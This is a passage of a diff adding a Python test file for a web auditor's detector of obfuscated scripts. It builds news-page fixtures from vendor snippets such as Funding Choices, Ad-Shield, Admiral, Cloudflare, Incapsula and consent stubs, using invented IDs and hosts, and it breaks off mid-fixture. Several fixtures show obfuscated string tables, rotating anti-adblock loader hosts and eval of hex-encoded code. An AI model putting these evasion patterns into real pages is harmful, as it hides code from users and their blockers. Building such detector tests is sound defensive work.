@@ -1,0 +1,628 @@
+"""Vendor code publishers paste, inline, minified or encoded, against the same forms
+injected. Each page is one we wrote after the vendor's published snippet or the form
+sites serve (the IDs, keys and rotating hosts made up): the vendor's reads no
+`obfuscated-script` finding, or a `medium` that says what to check; the injected twin
+stays `high`. docs/ACCURACY.md ("Vendor code that hides things") lists what was tried.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+
+import pytest
+
+from auditor.dom.deobfuscate import decode_script, is_data
+from auditor.model import PageReport, Severity
+
+from .conftest import AuditHtml
+
+H, M = Severity.HIGH, Severity.MEDIUM
+URL = "https://news.example/2024/story"
+
+
+def b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def page(head: str = "", body: str = "", foot: str = "") -> str:
+    """A news article with code in its head, its article and after it; `foot` sits 40
+    lines below the head, as a footer's code does on a real page."""
+    return (f"<!DOCTYPE html>\n<html lang='en'><head><meta charset='utf-8'><title>Ferry vote"
+            f"</title>\n<link rel='canonical' href='{URL}'>{head}</head>\n<body><main><article>"
+            "<h1>Ferry</h1>\n<p>The harbour council voted on the winter timetable on Tuesday."
+            f"</p>{body}</article></main>" + "\n" * 40 + f"{foot}</body></html>")
+
+
+def obfuscated(words: list[str], body: str) -> str:
+    """javascript-obfuscator's shape: an escaped string table read through an accessor
+    (`_0x4f5a('0x3')` is `words[3]`)."""
+    table = ",".join("'" + "".join(f"\\x{ord(c):02x}" for c in w) + "'" for w in words)
+    return ("(function(_0x1f2a3b,_0x4c5d6e){var _0x2a3b4c=function(_0x5d6e7f){while(--_0x5d6e7f)"
+            "{_0x1f2a3b['push'](_0x1f2a3b['shift']());}};_0x2a3b4c(++_0x4c5d6e);}(_0x3e4f,0x1b7));"
+            f"var _0x3e4f=[{table}];var _0x4f5a=function(_0x6e7f80,_0x7f8091){{_0x6e7f80="
+            "_0x6e7f80-0x0;var _0x809102=_0x3e4f[_0x6e7f80];return _0x809102;};" + body)
+
+
+# Funding Choices' error protection code: Closure-compiled, its config (the publisher, the
+# messages it fetches, Google's static host) base64 JSON handed to `window.atob`
+def fc_config(static: str = "https://www.gstatic.com") -> str:
+    token = "https://fundingchoicesmessages.google.com/el/AGSKWxQfake{}\\u003d\\u003d"
+    return json.dumps([
+        "pub-1111222233334444",
+        [None, None, None, "https://fundingchoicesmessages.google.com/b/pub-1111222233334444"],
+        None, None, token.format("A") + "?te\\u003dTOKEN_EXPOSED",
+        token.format("B") + "?ab\\u003d1\\u0026sbf\\u003d1", token.format("C") + "?sbf\\u003d2",
+        "div-gpt-ad", 20, 100, b64("pub-1111222233334444"),
+        [None, None, None, f"{static}/0emn/f/p/pub-1111222233334444.js?usqp\\u003dCBI"],
+        token.format("D")]).replace("\\\\u", "\\u")
+
+
+def fc_error_protection(config: str) -> str:
+    return (
+        "<script>(function(){/*\n\n Copyright The Closure Library Authors.\n SPDX-License-"
+        "Identifier: Apache-2.0\n*/\n'use strict';var r=this||self;var ra=function(a,b){this.l=a;"
+        "this.g=b;this.i=K(this.g,1);this.h=!1};ra.prototype.start=function(){sa(this)};var sa="
+        "function(a){ta(a);S(a.m,a.o,3,!1,function(){a:{var b=a.i;var c=r.btoa(b);if(c=r[c]){try{"
+        "var d=O(P,r.atob(c))}catch(e){b=!1;break a}b=b===K(d,1)}else b=!1}b?Z(a,K(a.g,14)):(Z(a,"
+        "K(a.g,8)),V(a.j))},function(){pa(function(){Z(a,K(a.g,7));V(a.j)},function(){return Z(a,"
+        "K(a.g,6))},K(a.g,9),K(a.g,10),K(a.g,11))})},Z=function(a,b){a.h||(a.h=!0,a=new a.l."
+        "XMLHttpRequest,a.open('GET',b,!0),a.send())},ta=function(a){var b=r.btoa(a.i);a.l[b]&&"
+        "Z(a,K(a.g,5))};(function(a,b){r[a]=function(c){for(var d=[],e=0;e<arguments.length;++e)"
+        "d[e-0]=arguments[e];r[a]=function(){};b.apply(null,d)}})(\"__h82AlnkH6D91__\",function(a)"
+        "{\"function\"===typeof window.atob&&(new ra(window,O(qa,window.atob(a)))).start()});})"
+        f".call(this);\nwindow.__h82AlnkH6D91__(\"{b64(config)}\");</script>")
+
+
+# Ad-Shield's fallback: tries its loader's mirrors, then sends a visitor whose blocker
+# stopped them all to its error page
+ADSHIELD_WORDS = [
+    "html-load.com", "content-loader.com", "fb.html-load.com", "/loader.min.js",
+    "createElement", "script", "src", "https://", "head", "appendChild", "onerror",
+    "https://report.error-report.com/modal?eventId=&error=Vml0YWwgQVBJIGJsb2NrZWQ%3D&domain=",
+    "location", "href", "hostname"]
+ADSHIELD_BODY = (
+    "(function(){var _0x1=[_0x4f5a('0x0'),_0x4f5a('0x1'),_0x4f5a('0x2')],_0x2=0x0;function "
+    "_0x3(){if(_0x2>=_0x1['length']){window[_0x4f5a('0xc')][_0x4f5a('0xd')]=_0x4f5a('0xb')+"
+    "window[_0x4f5a('0xc')][_0x4f5a('0xe')];return;}var _0x4=document[_0x4f5a('0x4')]("
+    "_0x4f5a('0x5'));_0x4[_0x4f5a('0x6')]=_0x4f5a('0x7')+_0x1[_0x2++]+_0x4f5a('0x3');_0x4["
+    "_0x4f5a('0xa')]=_0x3;document[_0x4f5a('0x8')][_0x4f5a('0x9')](_0x4);}window["
+    "'__adshield_fb']=_0x3;}());")
+# Admiral: its tag defines the `admiral` queue and loads one rotating host; the
+# obfuscated part tries the others
+ADMIRAL_HOSTS = ["https://quietlanternfield.com/assets/js/a8b2c1d0e9f8.min.js",
+                 "https://marblecoastgrove.com/v2/f7e6d5c4.js",
+                 "https://hollowpinecrest.com/public/js/b1a2c3.js"]
+ADMIRAL_BODY = (
+    "!(function(){var _0xa=[_0x4f5a('0x0'),_0x4f5a('0x1'),_0x4f5a('0x2')],_0xb=0x0;function "
+    "_0xc(){if(_0xb>=_0xa['length'])return;var _0xd=document[_0x4f5a('0x3')](_0x4f5a('0x4'));"
+    "_0xd[_0x4f5a('0x5')]=_0xa[_0xb++];_0xd[_0x4f5a('0x8')]=_0xc;document[_0x4f5a('0x6')]["
+    "_0x4f5a('0x7')](_0xd);}window[_0x4f5a('0x9')]('after','measure.detected',function(){});"
+    "_0xc();}());")
+
+
+def admiral(hosts: list[str]) -> str:
+    words = [*hosts, "createElement", "script", "src", "head", "appendChild", "onerror",
+             "admiral"]
+    return "<script>" + obfuscated(words, ADMIRAL_BODY) + "</script>"
+
+
+
+FC_TAG = (
+    "<script async src=\"https://fundingchoicesmessages.google.com/i/pub-1111222233334444?ers"
+    "=1\"></script><script>(function() {function signalGooglefcPresent() {if (!window.frames["
+    "'googlefcPresent']) {if (document.body) {const iframe = document.createElement('iframe')"
+    "; iframe.style = 'width: 0; height: 0; border: none; z-index: -1000; left: -1000px; top:"
+    " -1000px;'; iframe.style.display = 'none'; iframe.name = 'googlefcPresent'; document.bod"
+    "y.appendChild(iframe);} else {setTimeout(signalGooglefcPresent, 0);}}}signalGooglefcPres"
+    "ent();})();</script>"
+)
+
+ADMIRAL_TAG = (
+    "<script type=\"text/javascript\">!(function(M,_name){M[_name]=M[_name]||function h(){(h."
+    "q=h.q||[]).push(arguments)},M[_name].v=M[_name].v||2,M[_name].s=\"3\";})(window,decodeUR"
+    "I(decodeURI('%61%25%36%34%6d%69%25%37%32%61%6c')));!(function(M,h,Z,R){Z=M.createElement"
+    "(h),M=M.getElementsByTagName(h)[0],Z.async=1,Z.src=\"https://quietlanternfield.com/asset"
+    "s/js/a8b2c1d0e9f8.min.js\",(R=0)&&R(Z),M.parentNode.insertBefore(Z,M)})(document,\"scrip"
+    "t\");</script>"
+)
+
+ADSHIELD_TAG = (
+    "<script src=\"https://html-load.com/loader.min.js\" data-sdk=\"l/1.1.18\" data-cfasync="
+    "\"false\" charset=\"UTF-8\"></script>"
+)
+
+BLOCKTHROUGH = (
+    "<script async src=\"https://btloader.com/tag?o=5184339635601408&upapi=true\" type=\"text"
+    "/javascript\"></script><script>!function(){\"use strict\";var e;e=document,function(){va"
+    "r t,n;function r(){var t=e.createElement(\"script\");t.src=\"https://cafemedia-com.video"
+    "playerhub.com/galleryplayer.js\",e.head.appendChild(t)}function a(){var t=e.cookie.match"
+    "(\"(^|[^;]+)\\\\s*__adblocker\\\\s*=\\\\s*([^;]+)\");return t&&t.pop()}function c(){clea"
+    "rInterval(n)}return{init:function(){var e;\"true\"===(t=a())?r():(e=0,n=setInterval((fun"
+    "ction(){100!==e&&\"false\"!==t||c(),\"true\"===t&&(r(),c()),t=a(),e++}),50))}}}().init()"
+    "}();</script>"
+)
+
+BAIT = (
+    "<script src=\"/js/ads-prebid.js\"></script><div id=\"adblock-notice\" style=\"display:no"
+    "ne\">Please whitelist us</div><script>if(!document.getElementById('XyZbAitEl')){document"
+    ".getElementById('adblock-notice').style.display='block';}</script>"
+)
+
+CF_CHALLENGE = (
+    "<script>(function(){function c(){var b=a.contentDocument||a.contentWindow.document;if(b)"
+    "{var d=b.createElement('script');d.innerHTML=\"window.__CF$cv$params={r:'8f1e2d3c4b5a697"
+    "8',t:'MTczMzQwMDAwMC4wMDAwMDA='};var a=document.createElement('script');a.nonce='';a.src"
+    "='/cdn-cgi/challenge-platform/scripts/jsd/main.js';document.getElementsByTagName('head')"
+    "[0].appendChild(a);\";b.getElementsByTagName('head')[0].appendChild(d)}}if(document.body"
+    "){var a=document.createElement('iframe');a.height=1;a.width=1;a.style.position='absolute"
+    "';a.style.top=0;a.style.left=0;a.style.border='none';a.style.visibility='hidden';documen"
+    "t.body.appendChild(a);if('loading'!==document.readyState)c();else if(window.addEventList"
+    "ener)document.addEventListener('DOMContentLoaded',c);else{var e=document.onreadystatecha"
+    "nge||function(){};document.onreadystatechange=function(b){e(b);'loading'!==document.read"
+    "yState&&(document.onreadystatechange=e,c())}}}})();</script>"
+)
+
+ROCKET_LOADER = (
+    "<script type=\"9a0f1d2c3b4e5f6a7b8c9d0e-text/javascript\">var x = 1;</script><script src"
+    "=\"/cdn-cgi/scripts/7d0fa10a/cloudflare-static/rocket-loader.min.js\" data-cf-settings="
+    "\"9a0f1d2c3b4e5f6a7b8c9d0e-|49\" defer></script>"
+)
+
+CF_EMAIL = (
+    "<p>Write to <a href=\"/cdn-cgi/l/email-protection#b2d7d6dbc6ddc0f2dcd7c5c19cd7cad3dfc2de"
+    "d7\"><span class=\"__cf_email__\" data-cfemail=\"b2d7d6dbc6ddc0f2dcd7c5c19cd7cad3dfc2ded"
+    "7\">[email&#160;protected]</span></a></p><script data-cfasync=\"false\" src=\"/cdn-cgi/s"
+    "cripts/5c5dd728/cloudflare-static/email-decode.min.js\"></script>"
+)
+
+AKAMAI = (
+    "<script type=\"text/javascript\">var _cf = _cf || []; _cf.push(['_setFsp', true]); _cf.p"
+    "ush(['_setBm', true]); _cf.push(['_setAu', '/assets/4f3e2d1c0b9a']);</script><script typ"
+    "e=\"text/javascript\" src=\"/assets/4f3e2d1c0b9a\"></script><script type=\"text/javascri"
+    "pt\" src=\"/Qw3rTy/uIoP/aSdF/gHjK/lZxC/VbNm1234\"></script><noscript><img src=\"https://"
+    "news.example/akam/13/pixel_1a2b3c4d?a=dD0xYTJiM2M0ZDVlNmY3ODkwJmpzPW9mZg==\" style=\"vis"
+    "ibility: hidden; position: absolute; left: -999px; top: -999px;\" /></noscript>"
+)
+
+PERIMETERX_BLOCK = (
+    "<script>window._pxAppId = 'PXq1w2e3r4';window._pxJsClientSrc = '/q1w2e3r4/init.js';windo"
+    "w._pxFirstPartyEnabled = true;window._pxVid = '';window._pxUuid = '5f4e3d2c-1b0a-4988-87"
+    "76-655443322110';window._pxHostUrl = '/q1w2e3r4/xhr';</script><script>var s = document.c"
+    "reateElement('script');s.src = '/q1w2e3r4/captcha/captcha.js?a=c&u=5f4e3d2c-1b0a-4988-87"
+    "76-655443322110&v=&m=0';var p = document.getElementsByTagName('head')[0];p.insertBefore("
+    "s, null);if (true ){s.onerror = function () {s = document.createElement('script');var su"
+    "ffixIndex = '/q1w2e3r4/captcha/captcha.js?a=c&u=5f4e3d2c-1b0a-4988-8776-655443322110&v=&"
+    "m=0'.indexOf('captcha.js');var temperedBlockScript = '/q1w2e3r4/captcha/captcha.js?a=c&u"
+    "=5f4e3d2c-1b0a-4988-8776-655443322110&v=&m=0'.substring(suffixIndex);s.src = '//captcha."
+    "px-cdn.net/PXq1w2e3r4/' + temperedBlockScript;p.parentNode.insertBefore(s, p);};}</scrip"
+    "t>"
+)
+
+DATADOME_BLOCK = (
+    "<script data-cfasync=\"false\">var dd={'rt':'c','cid':'AHrlqAAAAAMAq1w2e3r4t5y6AAAAAA=='"
+    ",'hsh':'0A1B2C3D4E5F60718293A4B5C6D7E8','t':'fe','s':41234,'e':'a1b2c3d4a1b2c3d4a1b2c3d4"
+    "a1b2c3d4a1b2c3d4a1b2c3d4a1b2c3d4a1b2c3d4','host':'geo.captcha-delivery.com','cookie':'Zx"
+    "9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9Zx9'}</script><script data-cfasyn"
+    "c=\"false\" src=\"https://ct.captcha-delivery.com/c.js\"></script>"
+)
+
+INCAPSULA = (
+    "<script type=\"text/javascript\" src=\"/_Incapsula_Resource?SWJIYLWA=719d34d31c8e3a6e6ff"
+    "fd425f7e032f3&ns=2&cb=1234567\" async></script><script type=\"text/javascript\">(functio"
+    "n() { var z=\"\";var b=\"7472797b766172207868723b76617220743d6e6577204461746528292e67657"
+    "454696d6528293b766172207374617475733d227374617274223b7661722074696d696e673d6e65772041727"
+    "261792833293b77696e646f772e6f6e756e6c6f61643d66756e6374696f6e28297b74696d696e675b325d3d2"
+    "2723a222b286e6577204461746528292e67657454696d6528292d74293b646f63756d656e742e63726561746"
+    "5456c656d656e742822696d6722292e7372633d222f5f496e63617073756c615f5265736f757263653f45533"
+    "24c555243543d363726743d373826643d222b656e636f6465555249436f6d706f6e656e74287374617475732"
+    "b222028222b74696d696e672e6a6f696e28292b222922297d3b69662877696e646f772e584d4c48747470526"
+    "57175657374297b7868723d6e657720584d4c48747470526571756573747d656c73657b7868723d6e6577204"
+    "16374697665584f626a65637428224d6963726f736f66742e584d4c4854545022297d7868722e6f6e7265616"
+    "47973746174656368616e67653d66756e6374696f6e28297b737769746368287868722e72656164795374617"
+    "465297b6361736520303a7374617475733d6e6577204461746528292e67657454696d6528292d742b223a207"
+    "2657175657374206e6f7420696e697469616c697a656420223b627265616b3b6361736520343a73746174757"
+    "33d22636f6d706c657465223b74696d696e675b315d3d22633a222b286e6577204461746528292e676574546"
+    "96d6528292d74293b6966287868722e7374617475733d3d323030297b706172656e742e6c6f636174696f6e2"
+    "e72656c6f616428297d627265616b7d7d3b74696d696e675b305d3d22733a222b286e6577204461746528292"
+    "e67657454696d6528292d74293b7868722e6f70656e2822474554222c222f5f496e63617073756c615f52657"
+    "36f757263653f535748414e45444c3d313233343536373839303132333435363738392c31323334353637383"
+    "930313233343536373839302c313233343536373839303132333435363738392c313233343536222c66616c7"
+    "365293b7868722e73656e64286e756c6c297d63617463682863297b7374617475732b3d6e657720446174652"
+    "8292e67657454696d6528292d742b2220696e6361705f6578633a20222b633b646f63756d656e742e6372656"
+    "17465456c656d656e742822696d6722292e7372633d222f5f496e63617073756c615f5265736f757263653f4"
+    "553324c555243543d363726743d373826643d222b656e636f6465555249436f6d706f6e656e7428737461747"
+    "5732b222028222b74696d696e672e6a6f696e28292b222922297d3b\";for (var i=0;i<b.length;i+=2){"
+    "z=z+parseInt(b.substring(i, i+2), 16)+\",\";}z = z.substring(0,z.length-1); eval(eval('S"
+    "tring.fromCharCode('+z+')'));})();</script>"
+)
+
+KASADA = (
+    "<script>window.KPSDK={};KPSDK.now=typeof performance!=='undefined'&&performance.now?perf"
+    "ormance.now.bind(performance):Date.now.bind(Date);KPSDK.start=KPSDK.now();</script><scri"
+    "pt src=\"/149e9513-01fa-4fb0-aad4-566afd725d1b/2d206a39-8ed7-437e-a3be-862e0f06eea3/p.js"
+    "\"></script>"
+)
+
+VWO = (
+    "<script type='text/javascript' id='vwoCode'>window._vwo_code || (function() {var account"
+    "_id=712345,version=2.1,settings_tolerance=2000,hide_element='body',hide_element_style='o"
+    "pacity:0 !important;filter:alpha(opacity=0) !important;background:none !important;transi"
+    "tion:none !important;',/* DO NOT EDIT BELOW THIS LINE */\nf=false,w=window,d=document,v="
+    "d.querySelector('#vwoCode'),cK='_vwo_'+account_id+'_settings',cc={};try{var c=JSON.parse"
+    "(localStorage.getItem('_vwo_'+account_id+'_config'));cc=c&&typeof c==='object'?c:{}}catc"
+    "h(e){}var stT=cc.stT==='session'?w.sessionStorage:w.localStorage;code={nonce:v&&v.nonce,"
+    "use_existing_jquery:function(){return typeof use_existing_jquery!=='undefined'?use_exist"
+    "ing_jquery:undefined},library_tolerance:function(){return typeof library_tolerance!=='un"
+    "defined'?library_tolerance:undefined},settings_tolerance:function(){return cc.sT||settin"
+    "gs_tolerance},hide_element_style:function(){return'{'+(cc.hES||hide_element_style)+'}'},"
+    "hide_element:function(){if(performance.getEntriesByName('first-contentful-paint')[0]){re"
+    "turn''}return typeof cc.hE==='string'?cc.hE:hide_element},getVersion:function(){return v"
+    "ersion},finish:function(e){if(!f){f=true;var t=d.getElementById('_vis_opt_path_hides');i"
+    "f(t)t.parentNode.removeChild(t);if(e)(new Image).src='https://dev.visualwebsiteoptimizer"
+    ".com/ee.gif?a='+account_id+e}},finished:function(){return f},addScript:function(e){var t"
+    "=d.createElement('script');t.type='text/javascript';if(e.src){t.src=e.src}else{t.text=e."
+    "text}v&&t.setAttribute('nonce',v.nonce);d.getElementsByTagName('head')[0].appendChild(t)"
+    "},load:function(e,t){var n=this.getSettings(),i=d.createElement('script'),r=this;t=t||{}"
+    ";if(n){i.textContent=n;d.getElementsByTagName('head')[0].appendChild(i);if(!w.VWO||VWO.c"
+    "aE){stT.removeItem(cK);r.load(e)}}else{var o=new XMLHttpRequest;o.open('GET',e,true);o.w"
+    "ithCredentials=!t.dSC;o.responseType=t.responseType||'text';o.onload=function(){if(t.onl"
+    "oadCb){return t.onloadCb(o,e)}if(o.status===200||o.status===304){_vwo_code.addScript({te"
+    "xt:o.responseText})}else{_vwo_code.finish('&e=loading_failure:'+e)}};o.onerror=function("
+    "){if(t.onerrorCb){return t.onerrorCb(e)}_vwo_code.finish('&e=loading_failure:'+e)};o.sen"
+    "d()}},getSettings:function(){try{var e=stT.getItem(cK);if(!e){return}e=JSON.parse(e);if("
+    "Date.now()>e.e){stT.removeItem(cK);return}return e.s}catch(e){return}},init:function(){i"
+    "f(d.URL.indexOf('__vwo_disable__')>-1)return;var e=this.settings_tolerance();w._vwo_sett"
+    "ings_timer=setTimeout(function(){_vwo_code.finish();stT.removeItem(cK)},e);var t;if(this"
+    ".hide_element()!=='body'){t=d.createElement('style');var n=this.hide_element(),i=n?n+thi"
+    "s.hide_element_style():'',r=d.getElementsByTagName('head')[0];t.setAttribute('id','_vis_"
+    "opt_path_hides');v&&t.setAttribute('nonce',v.nonce);t.setAttribute('type','text/css');if"
+    "(t.styleSheet)t.styleSheet.cssText=i;else t.appendChild(d.createTextNode(i));r.appendChi"
+    "ld(t)}else{t=d.getElementsByTagName('head')[0];var i=d.createElement('div');i.style.cssT"
+    "ext='z-index: 2147483647 !important;position: fixed !important;left: 0 !important;top: 0"
+    " !important;width: 100% !important;height: 100% !important;background: white !important;"
+    "';i.setAttribute('id','_vis_opt_path_hides');i.classList.add('_vis_hide_layer');t.parent"
+    "Node.insertBefore(i,t.nextSibling)}var o=window._vis_opt_url||d.URL,s='https://dev.visua"
+    "lwebsiteoptimizer.com/j.php?a='+account_id+'&u='+encodeURIComponent(o)+'&vn='+version;if"
+    "(w.location.search.indexOf('_vwo_xhr')!==-1){this.addScript({src:s})}else{this.load(s+'&"
+    "x=true')}}};w._vwo_code=code;code.init();})();</script>"
+)
+
+ANTI_FLICKER = (
+    "<style>.async-hide { opacity: 0 !important} </style><script>(function(a,s,y,n,c,h,i,d,e)"
+    "{s.className+=' '+y;h.start=1*new Date;h.end=i=function(){s.className=s.className.replac"
+    "e(RegExp(' ?'+y),'')};(a[n]=a[n]||[]).hide=h;setTimeout(function(){i();h.end=null},c);h."
+    "timeout=c;})(window,document.documentElement,'async-hide','dataLayer',4000,{'GTM-K7Q2ZP3"
+    "':true});</script>"
+)
+
+YANDEX = (
+    "<script type=\"text/javascript\">(function(m,e,t,r,i,k,a){m[i]=m[i]||function(){(m[i].a="
+    "m[i].a||[]).push(arguments)};m[i].l=1*new Date();for (var j = 0; j < document.scripts.le"
+    "ngth; j++) {if (document.scripts[j].src === r) { return; }}k=e.createElement(t),a=e.getE"
+    "lementsByTagName(t)[0],k.async=1,k.src=r,a.parentNode.insertBefore(k,a)})(window, docume"
+    "nt, \"script\", \"https://mc.yandex.ru/metrika/tag.js\", \"ym\");ym(98765432, \"init\", "
+    "{clickmap:true,trackLinks:true,accurateTrackBounce:true,webvisor:true});</script><noscri"
+    "pt><div><img src=\"https://mc.yandex.ru/watch/98765432\" style=\"position:absolute; left"
+    ":-9999px;\" alt=\"\" /></div></noscript>"
+)
+
+PIWIK_PRO = (
+    "<script type=\"text/javascript\">(function(window, document, dataLayerName, id) {window["
+    "dataLayerName]=window[dataLayerName]||[],window[dataLayerName].push({start:(new Date).ge"
+    "tTime(),event:\"stg.start\"});var scripts=document.getElementsByTagName('script')[0],tag"
+    "s=document.createElement('script');function stgCreateCookie(a,b,c){var d=\"\";if(c){var "
+    "e=new Date;e.setTime(e.getTime()+24*c*60*60*1e3),d=\"; expires=\"+e.toUTCString()}docume"
+    "nt.cookie=a+\"=\"+b+d+\"; path=/\"}var isStgDebug=(window.location.href.match(\"stg_debu"
+    "g\")||document.cookie.match(\"stg_debug\"))&&!window.location.href.match(\"stg_disable_d"
+    "ebug\");stgCreateCookie(\"stg_debug\",isStgDebug?1:\"\",isStgDebug?14:-1);var qP=[];data"
+    "LayerName!==\"dataLayer\"&&qP.push(\"data_layer_name=\"+dataLayerName),isStgDebug&&qP.pu"
+    "sh(\"stg_debug\");var qPString=qP.length>0?(\"?\"+qP.join(\"&\")):\"\";tags.async=!0,tag"
+    "s.src=\"https://harbour.containers.piwik.pro/\"+id+\".js\"+qPString,scripts.parentNode.i"
+    "nsertBefore(tags,scripts);!function(a,n,i){a[n]=a[n]||{};for(var c=0;c<i.length;c++)!fun"
+    "ction(i){a[n][i]=a[n][i]||{},a[n][i].api=a[n][i].api||function(){var a=[].slice.call(arg"
+    "uments,0);\"string\"==typeof a[0]&&window[dataLayerName].push({event:n+\".\"+i+\":\"+a[0"
+    "],parameters:[].slice.call(arguments,1)})}}(i[c])}(window,\"ppms\",[\"tm\",\"cm\"]);})(w"
+    "indow, document, 'dataLayer', '4a3b2c1d-0e9f-4a8b-9c7d-6e5f4a3b2c1d');</script>"
+)
+
+TIKTOK = (
+    "<script>!function (w, d, t) {w.TiktokAnalyticsObject=t;var ttq=w[t]=w[t]||[];ttq.methods"
+    "=[\"page\",\"track\",\"identify\",\"instances\",\"debug\",\"on\",\"off\",\"once\",\"read"
+    "y\",\"alias\",\"group\",\"enableCookie\",\"disableCookie\",\"holdConsent\",\"revokeConse"
+    "nt\",\"grantConsent\"],ttq.setAndDefer=function(t,e){t[e]=function(){t.push([e].concat(A"
+    "rray.prototype.slice.call(arguments,0)))}};for(var i=0;i<ttq.methods.length;i++)ttq.setA"
+    "ndDefer(ttq,ttq.methods[i]);ttq.instance=function(t){for(var e=ttq._i[t]||[],n=0;n<ttq.m"
+    "ethods.length;n++)ttq.setAndDefer(e,ttq.methods[n]);return e},ttq.load=function(e,n){var"
+    " r=\"https://analytics.tiktok.com/i18n/pixel/events.js\",o=n&&n.partner;ttq._i=ttq._i||{"
+    "},ttq._i[e]=[],ttq._i[e]._u=r,ttq._t=ttq._t||{},ttq._t[e]=+new Date,ttq._o=ttq._o||{},tt"
+    "q._o[e]=n||{};n=document.createElement(\"script\");n.type=\"text/javascript\",n.async=!0"
+    ",n.src=r+\"?sdkid=\"+e+\"&lib=\"+t;e=document.getElementsByTagName(\"script\")[0];e.pare"
+    "ntNode.insertBefore(n,e)};ttq.load('C9A1B2C3D4E5F6G7H8I9');ttq.page();}(window, document"
+    ", 'ttq');</script>"
+)
+
+SOURCEPOINT = (
+    "<script>\"use strict\";function _typeof(t){return(_typeof=\"function\"==typeof Symbol&&"
+    "\"symbol\"==typeof Symbol.iterator?function(t){return typeof t}:function(t){return t&&\""
+    "function\"==typeof Symbol&&t.constructor===Symbol&&t!==Symbol.prototype?\"symbol\":typeo"
+    "f t})(t)}!function(){var t=function(){var t,e,o=[],n=window,r=n;for(;r;){try{if(r.frames"
+    ".__tcfapiLocator){t=r;break}}catch(t){}if(r===n.top)break;r=r.parent}t||(!function t(){v"
+    "ar e=n.document,o=!!n.frames.__tcfapiLocator;if(!o)if(e.body){var r=e.createElement(\"if"
+    "rame\");r.style.cssText=\"display:none\",r.name=\"__tcfapiLocator\",e.body.appendChild(r"
+    ")}else setTimeout(t,5);return!o}(),n.__tcfapi=function(){for(var t=arguments.length,n=ne"
+    "w Array(t),r=0;r<t;r++)n[r]=arguments[r];if(!n.length)return o;\"setGdprApplies\"===n[0]"
+    "?n.length>3&&2===parseInt(n[1],10)&&\"boolean\"==typeof n[3]&&(e=n[3],\"function\"==type"
+    "of n[2]&&n[2](\"set\",!0)):\"ping\"===n[0]?\"function\"==typeof n[2]&&n[2]({gdprApplies:"
+    "e,cmpLoaded:!1,cmpStatus:\"stub\"}):o.push(n)},n.addEventListener(\"message\",function(t"
+    "){var e=\"string\"==typeof t.data,o={};if(e)try{o=JSON.parse(t.data)}catch(t){}else o=t."
+    "data;var n=\"object\"===_typeof(o)&&null!==o?o.__tcfapiCall:null;n&&window.__tcfapi(n.co"
+    "mmand,n.version,function(o,r){var a={__tcfapiReturn:{returnValue:o,success:r,callId:n.ca"
+    "llId}};t&&t.source&&t.source.postMessage&&t.source.postMessage(e?JSON.stringify(a):a,\"*"
+    "\")},n.parameter)},!1))};\"undefined\"!=typeof module?module.exports=t:t()}();</script><"
+    "script>window._sp_queue = [];window._sp_ = {config: {accountId: 1873, baseEndpoint: 'htt"
+    "ps://cdn.privacy-mgmt.com', gdpr: { }, events: {onMessageReady: function() {console.log("
+    "'[event] onMessageReady', arguments);}}}}</script><script src='https://cdn.privacy-mgmt."
+    "com/unified/wrapperMessagingWithoutDetection.js' async></script>"
+)
+
+QUANTCAST = (
+    "<script type=\"text/javascript\" async=true>(function() {var host = window.location.host"
+    "name;var element = document.createElement('script');var firstScript = document.getElemen"
+    "tsByTagName('script')[0];var url = 'https://cmp.inmobi.com'.concat('/choice/', 'a1B2c3D4"
+    "e5F6g', '/', host, '/choice.js?tag_version=V3');var uspTries = 0;var uspTriesLimit = 3;e"
+    "lement.async = true;element.type = 'text/javascript';element.src = url;firstScript.paren"
+    "tNode.insertBefore(element, firstScript);function makeStub() {var TCF_LOCATOR_NAME = '__"
+    "tcfapiLocator';var queue = [];var win = window;var cmpFrame;function addFrame() {var doc"
+    " = win.document;var otherCMP = !!(win.frames[TCF_LOCATOR_NAME]);if (!otherCMP) {if (doc."
+    "body) {var iframe = doc.createElement('iframe');iframe.style.cssText = 'display:none';if"
+    "rame.name = TCF_LOCATOR_NAME;doc.body.appendChild(iframe);} else {setTimeout(addFrame, 5"
+    ");}}return !otherCMP;}function tcfAPIHandler() {var gdprApplies;var args = arguments;if "
+    "(!args.length) {return queue;} else if (args[0] === 'setGdprApplies') {if (args.length >"
+    " 3 && args[2] === 2 && typeof args[3] === 'boolean') {gdprApplies = args[3];if (typeof a"
+    "rgs[2] === 'function') {args[2]('set', true);}}} else if (args[0] === 'ping') {var retr "
+    "= {gdprApplies: gdprApplies,cmpLoaded: false,cmpStatus: 'stub'};if (typeof args[2] === '"
+    "function') {args[2](retr);}} else {if(args[0] === 'init' && typeof args[3] === 'object')"
+    " {args[3] = Object.assign(args[3], { tag_version: 'V3' });}queue.push(args);}}function p"
+    "ostMessageEventHandler(event) {var msgIsString = typeof event.data === 'string';var json"
+    " = {};try {if (msgIsString) {json = JSON.parse(event.data);} else {json = event.data;}} "
+    "catch (ignore) {}var payload = json.__tcfapiCall;if (payload) {window.__tcfapi(payload.c"
+    "ommand,payload.version,function(retValue, success) {var returnMsg = {__tcfapiReturn: {re"
+    "turnValue: retValue,success: success,callId: payload.callId}};if (msgIsString) {returnMs"
+    "g = JSON.stringify(returnMsg);}if (event && event.source && event.source.postMessage) {e"
+    "vent.source.postMessage(returnMsg, '*');}},payload.parameter);}}while (win) {try {if (wi"
+    "n.frames[TCF_LOCATOR_NAME]) {cmpFrame = win;break;}} catch (ignore) {}if (win === window"
+    ".top) {break;}win = win.parent;}if (!cmpFrame) {addFrame();win.__tcfapi = tcfAPIHandler;"
+    "win.addEventListener('message', postMessageEventHandler, false);}};makeStub();})();</scr"
+    "ipt>"
+)
+
+DIDOMI = (
+    "<script type=\"text/javascript\">window.gdprAppliesGlobally=true;(function(){function n("
+    "e){if(!window.frames[e]){if(document.body&&document.body.firstChild){var t=document.body"
+    ";var r=document.createElement(\"iframe\");r.style.display=\"none\";r.name=e;r.title=e;t."
+    "insertBefore(r,t.firstChild)}else{setTimeout(function(){n(e)},5)}}}function e(r,a,o,c,s)"
+    "{function e(e,t,r,n){if(typeof r!==\"function\"){return}if(!window[a]){window[a]=[]}var "
+    "i=false;if(s){i=s(e,n,r)}if(!i){window[a].push({command:e,version:t,callback:r,parameter"
+    ":n})}}e.stub=true;e.stubVersion=2;function t(n){if(!window[r]||window[r].stub!==true){re"
+    "turn}if(!n.data){return}var i=typeof n.data===\"string\";var e;try{e=i?JSON.parse(n.data"
